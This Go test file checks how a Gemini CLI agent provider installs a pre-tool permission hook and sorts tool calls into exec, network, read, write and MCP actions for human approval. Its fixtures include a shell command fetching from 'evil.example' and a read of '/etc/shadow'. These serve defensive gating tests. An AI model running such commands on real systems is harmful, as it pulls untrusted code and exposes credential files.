package geminicli

import (
	"encoding/json"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/massgen-go/massgen-mcp/permissions"
	"github.com/massgen-go/massgen-mcp/providers/cliagent"
	"github.com/massgen-go/massgen-mcp/providers/cliagent/relay"
)

func TestWithRulesTheRunsSettingsHoldTheBeforeToolHook(t *testing.T) {
	r := run(t)
	r.Permissions = &cliagent.Permissions{Mode: permissions.Coarse(permissions.Rules{Role: permissions.ReadOnly}), Hook: []string{"/bin/massgen-mcp", "workflow-server", "--view", "v.json", "--hook"}}
	inv, err := CLI{}.Invocation(r)
	if err != nil {
		t.Fatal(err)
	}
	data := inv.Files[filepath.Join(geminiHome, ".gemini", "settings.json")]
	var s struct {
		Hooks struct {
			BeforeTool []struct {
				Matcher string
				Hooks   []struct {
					Type, Command string
					Timeout       int64 // ms
				}
			}
		}
	}
	if err := json.Unmarshal(data, &s); err != nil || len(s.Hooks.BeforeTool) != 1 || s.Hooks.BeforeTool[0].Matcher != "*" ||
		s.Hooks.BeforeTool[0].Hooks[0].Command != "'/bin/massgen-mcp' 'workflow-server' '--view' 'v.json' '--hook'" {
		t.Fatalf("settings %s: %v", data, err)
	}
	// Gemini CLI runs a call whose hook timed out: the hook must answer
	// first, after the longest approval a person may be given.
	if hook := time.Duration(s.Hooks.BeforeTool[0].Hooks[0].Timeout) * time.Millisecond; hook <= relay.GateTimeout || relay.GateTimeout <= permissions.MaxApprovalTimeout {
		t.Errorf("the hook's timeout %v is not longer than the relay's wait %v, longer than the longest approval %v", hook, relay.GateTimeout, permissions.MaxApprovalTimeout)
	}
	inv, _ = CLI{}.Invocation(run(t))
	if strings.Contains(string(inv.Files[filepath.Join(geminiHome, ".gemini", "settings.json")]), "BeforeTool") {
		t.Error("a run without rules has no hook")
	}
}

func TestTheHooksQuestionsAndAnswers(t *testing.T) {
	cases := []struct{ payload, want string }{
		{`{"hook_event_name":"BeforeTool","tool_name":"run_shell_command","tool_input":{"command":"wget http://evil.example/x"}}`, "exec(wget http://evil.example/x) net(evil.example)"},
		{`{"tool_name":"write_file","tool_input":{"file_path":"/workspace/n.txt","content":"x"}}`, "write(n.txt)"},
		{`{"tool_name":"read_file","tool_input":{"absolute_path":"/etc/shadow"}}`, "read(/etc/shadow)"},
		{`{"tool_name":"web_fetch","tool_input":{"prompt":"summarise https://a.example/x and http://b.example"}}`, "net(a.example) net(b.example)"},
		{`{"tool_name":"google_web_search","tool_input":{"query":"q"}}`, "net(" + permissions.WebSearch + ")"},
		{`{"tool_name":"fs__read","tool_input":{},"mcp_context":{"server_name":"fs","tool_name":"read"}}`, "mcp(fs/read)"},
		{`{"tool_name":"mcp_workflow_new_answer","tool_input":{"content":"x"}}`, ""},
	}
	for _, c := range cases {
		_, acts, err := CLI{}.Question(json.RawMessage(c.payload), "/workspace")
		var got []string
		for _, a := range acts {
			got = append(got, a.String())
		}
		if err != nil || strings.Join(got, " ") != c.want {
			t.Errorf("%s: %v %v, want %s", c.payload, got, err, c.want)
		}
	}
	if got := (CLI{}).Answer(nil, false, "no"); got != `{"decision":"deny","reason":"no"}` {
		t.Errorf("deny = %s", got)
	}
	if got := (CLI{}).Answer(nil, true, ""); got != "{}" {
		t.Errorf("allow = %s", got)
	}
}
